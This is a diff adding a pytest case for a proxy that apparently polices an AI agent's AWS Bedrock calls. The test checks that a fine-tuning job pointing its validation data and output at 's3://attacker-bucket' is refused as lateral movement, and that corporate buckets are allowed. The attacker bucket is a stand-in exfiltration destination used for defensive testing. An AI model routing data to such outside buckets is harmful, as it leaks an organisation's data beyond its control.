@@ -166,3 +166,39 @@ def test_a_model_invocation_jobs_buckets_are_checked_against_the_allowlist(
     upstream.reply = Reply(body=json.dumps({"jobArn": arn}).encode())
     assert job("s3://corp-docs/batch/out/")["jobArn"] == arn
     assert refusals(last_record(enforce, 2)) == []
+
+
+def test_a_model_customization_jobs_data_and_output_are_checked_against_the_allowlist(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    """A fine-tuning job Bedrock runs later reads its training and validation data from S3 and writes
+    the model's metrics to S3: each location is a destination of the agent's, as a batch job's are."""
+    sdk = bedrock_client(enforce, upstream, "bedrock")
+    from botocore.exceptions import ClientError
+
+    def job(validation: str, output: str) -> Any:
+        return sdk.create_model_customization_job(
+            jobName="tune",
+            customModelName="support-tuned",
+            roleArn="arn:aws:iam::123456789012:role/tune",
+            baseModelIdentifier=MODEL,
+            trainingDataConfig={"s3Uri": "s3://corp-docs/tune/train.jsonl"},
+            validationDataConfig={"validators": [{"s3Uri": validation}]},
+            outputDataConfig={"s3Uri": output},
+            hyperParameters={"epochCount": "1"},
+        )
+
+    with pytest.raises(ClientError) as raised:
+        job("s3://attacker-bucket/v.jsonl", "s3://attacker-bucket/out/")
+    assert raised.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", PROVIDER_FETCH_RULE, "validationDataConfig.validators[0].s3Uri", True),
+        ("lateral_movement", PROVIDER_FETCH_RULE, "outputDataConfig.s3Uri", True),
+    ]
+    arn = "arn:aws:bedrock:us-east-1:123456789012:model-customization-job/abc"
+    upstream.reply = Reply(body=json.dumps({"jobArn": arn}).encode())
+    assert job("s3://corp-docs/tune/v.jsonl", "s3://corp-docs/tune/out/")["jobArn"] == arn
+    sent = json.loads(upstream.received[-1].body)
+    assert sent["trainingDataConfig"] == {"s3Uri": "s3://corp-docs/tune/train.jsonl"}
+    assert refusals(last_record(enforce, 2)) == []
